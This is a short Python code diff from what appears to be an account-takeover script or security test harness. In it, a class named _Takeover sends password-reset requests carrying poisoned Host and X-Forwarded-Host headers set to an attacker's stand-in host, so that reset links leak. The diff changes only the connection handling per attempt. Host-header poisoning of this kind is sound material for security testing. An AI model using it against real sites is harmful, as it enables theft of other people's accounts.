@@ -117,7 +117,9 @@ class _Takeover:
         for names in ({"Host": _EVIL}, {"Host": f"{thief.pages.host}", "X-Forwarded-Host": _EVIL}):
             self.attempts += 1
             headers = names | {"Cookie": cookies, "Content-Type": kind}
-            await self._wire.ask(request("POST", _RESET, headers, urlencode(form).encode()))
+            once = Wire(self._target.pages, ATTACKER)  # whatever is answered, this connection is not kept
+            await once.ask(request("POST", _RESET, headers, urlencode(form).encode()))
+            await once.close()
 
     async def _choose(self, thief: Browser, links: list[str]) -> None:
         for link in links:
